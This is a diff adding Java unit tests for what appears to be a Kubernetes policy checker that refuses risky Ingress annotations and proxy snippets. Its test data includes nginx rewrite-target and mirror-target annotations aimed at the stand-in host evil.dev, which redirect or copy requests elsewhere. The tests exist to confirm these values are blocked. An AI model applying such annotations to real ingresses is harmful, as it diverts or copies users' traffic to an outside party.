@@ -58,6 +58,49 @@ class OwnTargetsTest {
             "IngressRoute `monolith-pr-7-r` names `auth@file`, which is not of its namespace");
   }
 
+  /** What tunes the controller alone passes. */
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      textBlock =
+          """
+          nginx.ingress.kubernetes.io/rewrite-target: https://evil.dev | leads requests elsewhere
+          nginx.ingress.kubernetes.io/rewrite-target: /a |
+          nginx.ingress.kubernetes.io/mirror-target: https://evil.dev | sends a copy of each request elsewhere
+          nginx.ingress.kubernetes.io/proxy-body-size: 8m |
+          """)
+  void annotationsOfAnIngress(String annotation, String reason) {
+    String ingress =
+        "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: x, annotations: {%s}}\n"
+            .formatted(annotation.replace(": ", ": '") + "'");
+    assertThat(found("refused-annotation", ingress))
+        .isEqualTo(
+            reason == null
+                ? List.of()
+                : List.of(
+                    "Ingress `x` has `"
+                        + annotation.substring(0, annotation.indexOf(':'))
+                        + "`, which "
+                        + reason));
+    assertThat(found("refused-annotation", ingress.replace("Ingress", "IngressClass"))).isEmpty();
+  }
+
+  @Test
+  void theProxysOwnConfigurationIsClosed() {
+    assertThat(
+            found(
+                "proxy-snippet",
+                "apiVersion: k8s.nginx.org/v1\nkind: VirtualServer\nmetadata: {name: x}\nspec: {http-snippets: 'deny all;'}\n"))
+        .containsExactly("VirtualServer `x` writes into the proxy's own configuration");
+  }
+
+  private static List<String> found(String id, String object) {
+    return BundleCase.directory().object(object).problems().stream()
+        .filter(it -> it.id().equals(id))
+        .map(Problem::message)
+        .toList();
+  }
+
   private static List<String> messages(String object, String group, String kind) {
     return BundleCase.sharedChart()
         .platform(
